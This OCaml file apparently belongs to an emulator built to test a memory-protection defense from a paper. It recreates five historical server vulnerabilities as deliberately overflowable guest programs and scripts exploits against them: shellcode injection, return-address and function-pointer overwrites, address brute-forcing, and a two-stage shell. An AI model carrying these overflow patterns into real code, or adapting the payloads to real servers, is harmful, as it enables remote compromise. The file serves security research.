open Isa.Asm

(* The five real-world vulnerabilities of the paper's Table 2, rebuilt as
   guest servers with the same vulnerability classes and exploits with the
   same structure (info leaks, length-field bugs, ASCII-translation
   expansion, brute-forced stack addresses, two-stage payloads). *)

type id = Apache_ssl | Bind | Proftpd | Samba | Wuftpd

let all = [ Apache_ssl; Bind; Proftpd; Samba; Wuftpd ]

type info = {
  package : string;
  version : string;
  vuln : string;
  exploit : string;
  injection : string;
  unprotected_result : string;
}

let info = function
  | Apache_ssl ->
    {
      package = "Apache + OpenSSL";
      version = "1.3.20 / 0.9.6d";
      vuln = "heap overflow (client master key, unchecked length)";
      exploit = "openssl-too-open";
      injection = "heap";
      unprotected_result = "remote nobody shell";
    }
  | Bind ->
    {
      package = "Bind";
      version = "8.2.2_P5";
      vuln = "stack overflow (TSIG handling)";
      exploit = "lsd-pl.net tsig";
      injection = "stack";
      unprotected_result = "remote root shell";
    }
  | Proftpd ->
    {
      package = "ProFTPD";
      version = "1.2.7";
      vuln = "heap overflow (ASCII-mode newline translation)";
      exploit = "proftpd-not-pro-enough";
      injection = "heap";
      unprotected_result = "remote root shell";
    }
  | Samba ->
    {
      package = "Samba";
      version = "2.2.1a";
      vuln = "stack overflow (call_trans2open), brute-forced address";
      exploit = "eSDee trans2open";
      injection = "stack";
      unprotected_result = "remote root shell";
    }
  | Wuftpd ->
    {
      package = "WU-FTPD";
      version = "2.6.1";
      vuln = "heap corruption (filename globbing / free)";
      exploit = "TESO 7350wurm";
      injection = "heap";
      unprotected_result = "remote root shell";
    }

(* Heap offsets used by the victims (fixed allocator layout). *)
let apache_buf = Kernel.Layout.heap_base + 0x80
let apache_handler = Kernel.Layout.heap_base + 0xC0
let proftpd_xlat = Kernel.Layout.heap_base + 0x400
let proftpd_dispatch = Kernel.Layout.heap_base + 0x440
let proftpd_store = Kernel.Layout.heap_base + 0x10100
let wuftpd_glob = Kernel.Layout.heap_base + 0x500
let wuftpd_hook = Kernel.Layout.heap_base + 0x540

let store_and_leak ~lbl addr =
  (* Stash an address into the leak word and write it to the client —
     modelling the info-leak step of the real exploits. *)
  [ I (Mov_ri (EDI, addr)); I (Mov_ri (ESI, lbl "leak")); I (Store (ESI, 0, EDI)) ]
  @ Guest.sys_write_imm ~buf:(lbl "leak") ~len:4 ()

let leak_register ~lbl =
  (* Same, but the address is already in edi. *)
  [ I (Mov_ri (ESI, lbl "leak")); I (Store (ESI, 0, EDI)) ]
  @ Guest.sys_write_imm ~buf:(lbl "leak") ~len:4 ()

let common_data =
  [
    L "leak";
    Word32 0;
    Align 16;
    L "pkt";
    Space 1024;
    Align 16;
    L "banner";
    Bytes "SRV!";
    L "okmsg";
    Bytes "BYE!";
  ]

let install_handler ~lbl ~at =
  [ I (Mov_ri (EAX, lbl "benign")); I (Mov_ri (EDI, at)); I (Store (EDI, 0, EAX)) ]

let call_through ~at =
  [ I (Mov_ri (ESI, at)); I (Load (EAX, ESI, 0)); I (Call_r EAX) ]

let finish ~lbl = Guest.sys_write_imm ~buf:(lbl "okmsg") ~len:4 () @ Guest.sys_exit 0

let benign = [ L "benign"; I Ret ]

(* --- victims ------------------------------------------------------------ *)

let apache_victim () =
  Kernel.Image.build ~name:"apache-openssl" ~bss_size:0
    ~data:(fun ~lbl:_ -> common_data)
    ~code:(fun ~lbl ->
      [ L "main" ]
      @ install_handler ~lbl ~at:apache_handler
      @ Guest.sys_write_imm ~buf:(lbl "banner") ~len:4 ()
      @ store_and_leak ~lbl apache_buf
      (* read the "client master key" packet: [len:1][key bytes] *)
      @ Guest.sys_read_imm ~buf:(lbl "pkt") ~len:512
      @ [
          (* the bug: copy len bytes into a 64-byte session buffer *)
          I (Mov_ri (ESI, lbl "pkt"));
          I (Loadb (ECX, ESI, 0));
          I (Add_ri (ESI, 1));
          I (Mov_ri (EDI, apache_buf));
        ]
      @ Guest.copy_counted ~tag:"mk"
      @ call_through ~at:apache_handler
      @ finish ~lbl
      @ benign)
    ~entry:"main" ()

let bind_victim () =
  Kernel.Image.build ~name:"bind-tsig" ~bss_size:0
    ~data:(fun ~lbl:_ -> common_data)
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Push EBP);
        I (Mov_rr (EBP, ESP));
      ]
      (* read the DNS query *)
      @ Guest.sys_read_imm ~buf:(lbl "pkt") ~len:64
      @ [ I (Call (Lbl "handle_tsig")); I (Jmp (Lbl "fin")) ]
      @ [
          L "handle_tsig";
          I (Push EBP);
          I (Mov_rr (EBP, ESP));
          I (Add_ri (ESP, -128));
          (* the information leak: the error reply embeds a stack address *)
          I (Lea (EDI, EBP, -128));
        ]
      @ leak_register ~lbl
      (* read the TSIG record and copy it, unbounded, into the stack buffer *)
      @ Guest.sys_read_imm ~buf:(lbl "pkt") ~len:512
      @ [ I (Mov_ri (ESI, lbl "pkt")); I (Lea (EDI, EBP, -128)) ]
      @ Guest.copy_until_newline ~tag:"tsig"
      @ [ I (Mov_rr (ESP, EBP)); I (Pop EBP); I Ret; L "fin" ]
      @ finish ~lbl
      @ benign)
    ~entry:"main" ()

let proftpd_victim () =
  Kernel.Image.build ~name:"proftpd-ascii" ~bss_size:0
    ~data:(fun ~lbl:_ -> common_data)
    ~code:(fun ~lbl ->
      [ L "main" ]
      @ install_handler ~lbl ~at:proftpd_dispatch
      @ Guest.sys_write_imm ~buf:(lbl "banner") ~len:4 ()
      @ store_and_leak ~lbl proftpd_store
      (* STOR: upload the file into the heap store *)
      @ Guest.sys_read_imm ~buf:proftpd_store ~len:256
      (* RETR in ASCII mode: translate \n -> \r\n into a 64-byte buffer,
         stopping at NUL, with no bounds check *)
      @ [
          I (Mov_ri (ESI, proftpd_store));
          I (Mov_ri (EDI, proftpd_xlat));
          L "xl_loop";
          I (Loadb (EAX, ESI, 0));
          I (Cmp_ri (EAX, 0));
          I (Jz (Lbl "xl_end"));
          I (Cmp_ri (EAX, 0x0A));
          I (Jnz (Lbl "xl_plain"));
          I (Mov_ri (EAX, 0x0D));
          I (Storeb (EDI, 0, EAX));
          I (Add_ri (EDI, 1));
          I (Mov_ri (EAX, 0x0A));
          L "xl_plain";
          I (Storeb (EDI, 0, EAX));
          I (Add_ri (EDI, 1));
          I (Add_ri (ESI, 1));
          I (Jmp (Lbl "xl_loop"));
          L "xl_end";
        ]
      @ call_through ~at:proftpd_dispatch
      @ finish ~lbl
      @ benign)
    ~entry:"main" ()

let samba_victim () =
  Kernel.Image.build ~name:"samba-trans2open" ~bss_size:0
    ~data:(fun ~lbl:_ -> common_data)
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Push EBP);
        I (Mov_rr (EBP, ESP));
      ]
      @ Guest.sys_read_imm ~buf:(lbl "pkt") ~len:1024
      @ [
          I (Mov_ri (EAX, lbl "pkt"));
          I (Push EAX);
          I (Call (Lbl "trans2open"));
          I (Add_ri (ESP, 4));
          I (Jmp (Lbl "fin"));
          L "trans2open";
          I (Push EBP);
          I (Mov_rr (EBP, ESP));
          I (Add_ri (ESP, -600));
          I (Load (ESI, EBP, 8));
          I (Lea (EDI, EBP, -600));
        ]
      @ Guest.copy_until_newline ~tag:"t2"
      @ [ I (Mov_rr (ESP, EBP)); I (Pop EBP); I Ret; L "fin" ]
      @ finish ~lbl
      @ benign)
    ~entry:"main" ()

let wuftpd_victim () =
  Kernel.Image.build ~name:"wuftpd-globbing" ~bss_size:0
    ~data:(fun ~lbl:_ -> common_data)
    ~code:(fun ~lbl ->
      [ L "main" ]
      @ [
          (* initialize the free hook *)
          I (Mov_ri (EAX, lbl "benign"));
          I (Mov_ri (EDI, wuftpd_hook));
          I (Store (EDI, 0, EAX));
        ]
      @ Guest.sys_write_imm ~buf:(lbl "banner") ~len:4 ()
      @ store_and_leak ~lbl wuftpd_glob
      (* the glob pattern: unbounded copy into a 64-byte heap buffer *)
      @ Guest.sys_read_imm ~buf:(lbl "pkt") ~len:1024
      @ [ I (Mov_ri (ESI, lbl "pkt")); I (Mov_ri (EDI, wuftpd_glob)) ]
      @ Guest.copy_until_newline ~tag:"glob"
      (* free() the glob result — through the corrupted hook *)
      @ call_through ~at:wuftpd_hook
      @ finish ~lbl
      @ benign)
    ~entry:"main" ()

let victim = function
  | Apache_ssl -> apache_victim ()
  | Bind -> bind_victim ()
  | Proftpd -> proftpd_victim ()
  | Samba -> samba_victim ()
  | Wuftpd -> wuftpd_victim ()

(* --- exploits ----------------------------------------------------------- *)

let w = Shellcode.word32

let assert_clean payload =
  assert (not (Shellcode.contains_newline payload));
  payload

let run_apache_session ?defense ?obs ?tune () =
  let s = Runner.start ?defense ?obs ?tune (apache_victim ()) in
  let buf = Runner.leak_addr (Runner.recv s) in
  let code = Shellcode.execve_bin_sh ~sled:8 ~base:buf () in
  let key = code ^ Guest.filler (64 - String.length code) ^ w buf in
  Runner.send s (String.make 1 (Char.chr (String.length key)) ^ key);
  ignore (Runner.step s);
  (Runner.outcome s, s)

let run_bind_session ?defense ?obs ?tune () =
  let s = Runner.start ?defense ?obs ?tune (bind_victim ()) in
  Runner.send s "query: victim.example.com\n";
  let buf = Runner.leak_addr (Runner.recv s) in
  let code = Shellcode.execve_bin_sh ~sled:16 ~base:buf () in
  let payload =
    assert_clean (code ^ Guest.filler (128 - String.length code) ^ w buf ^ w buf)
  in
  Runner.send s (payload ^ "\n");
  ignore (Runner.step s);
  (Runner.outcome s, s)

let run_proftpd_session ?defense ?obs ?tune () =
  let s = Runner.start ?defense ?obs ?tune (proftpd_victim ()) in
  let store = Runner.leak_addr (Runner.recv s) in
  (* 32 newlines expand to exactly the 64 bytes that fill the translation
     buffer; the next 4 translated bytes land on the dispatch pointer. *)
  let code_at = store + 32 + 4 + 1 in
  let code = Shellcode.execve_bin_sh ~sled:8 ~base:code_at () in
  let file = String.make 32 '\n' ^ w code_at ^ "\000" ^ code in
  Runner.send s file;
  ignore (Runner.step s);
  (Runner.outcome s, s)

(* Samba: no leak — version 2.6 kernels randomize stack placement slightly,
   so the exploit brute-forces the return address from a good first guess
   (paper §6.1.2). Each attempt is a fresh connection (fresh process, fresh
   randomization). *)
type samba_result = {
  outcome : Runner.outcome;
  attempts : int;
  detections : int;
  last : Runner.session option;
}

let samba_buf_from_esp esp =
  (* main pushes ebp, call pushes ret, trans2open pushes ebp: -12; locals 600 *)
  esp - 12 - 600

let run_samba ?defense ?obs ?tune ?(max_attempts = 64) ?(jitter_pages = 16) () =
  let code = Shellcode.execve_bin_sh_pic ~sled:400 () in
  (* "Insider information": the good first guess comes from manual analysis
     of a similar vulnerable system (paper §6.1.2) — model it by reading the
     stack layout of a reference install, then brute-force against fresh,
     independently randomized server processes. *)
  let guess =
    let reference =
      Runner.start ~stack_jitter_pages:jitter_pages ~seed:999 (samba_victim ())
    in
    samba_buf_from_esp (Hw.Cpu.get reference.victim.regs Isa.Reg.ESP) + 200
  in
  let detections = ref 0 in
  let rec attempt n =
    if n > max_attempts then
      { outcome = Runner.Hung; attempts = n - 1; detections = !detections; last = None }
    else begin
      let s =
        Runner.start ?defense ?obs ?tune ~stack_jitter_pages:jitter_pages ~seed:(1000 + n)
          (samba_victim ())
      in
      let payload =
        assert_clean (code ^ Guest.filler (600 - String.length code) ^ w guess ^ w guess)
      in
      Runner.send s (payload ^ "\n");
      ignore (Runner.step s);
      let o = Runner.outcome s in
      detections := !detections + s.victim.detections;
      match o with
      | Runner.Shell_spawned _ | Runner.Foiled _ ->
        { outcome = o; attempts = n; detections = !detections; last = Some s }
      | Runner.Crashed _ | Runner.Completed _ | Runner.Hung -> attempt (n + 1)
    end
  in
  attempt 1

(* WU-FTPD: two-stage 7350wurm-style payload; returns the session so the
   response-mode demos can keep talking to the spawned shell. *)
let run_wuftpd ?defense ?obs ?tune ?(commands = [ "id"; "q" ]) () =
  let s = Runner.start ?defense ?obs ?tune (wuftpd_victim ()) in
  let glob = Runner.leak_addr (Runner.recv s) in
  let stage1_base = glob + 68 in
  let stage1 = Shellcode.two_stage_stage1 ~sled:16 ~base:stage1_base () in
  let pattern = assert_clean (Guest.filler 64 ^ w stage1_base ^ stage1) in
  Runner.send s (pattern ^ "\n");
  let reply = Runner.recv s in
  let got_magic =
    String.length reply >= 4 && String.sub reply (String.length reply - 4) 4 = "OK!!"
  in
  if got_magic then begin
    let stage2_base = stage1_base + String.length stage1 in
    Runner.send s (Shellcode.interactive_shell ~base:stage2_base);
    ignore (Runner.step s);
    List.iter
      (fun cmd ->
        Runner.send s (cmd ^ "\n");
        ignore (Runner.step s))
      commands
  end;
  ignore (Runner.step s);
  (Runner.outcome s, s)

(* End-to-end with the final kernel session exposed, so callers can render
   the machine state (cost model, TLB statistics) after the attack. Samba
   only has a session when an attempt concluded decisively. *)
let run_session ?defense ?obs ?tune = function
  | Apache_ssl ->
    let o, s = run_apache_session ?defense ?obs ?tune () in
    (o, Some s)
  | Bind ->
    let o, s = run_bind_session ?defense ?obs ?tune () in
    (o, Some s)
  | Proftpd ->
    let o, s = run_proftpd_session ?defense ?obs ?tune () in
    (o, Some s)
  | Samba ->
    let r = run_samba ?defense ?obs ?tune () in
    (r.outcome, r.last)
  | Wuftpd ->
    let o, s = run_wuftpd ?defense ?obs ?tune () in
    (o, Some s)

let run ?defense ?obs id = fst (run_session ?defense ?obs id)
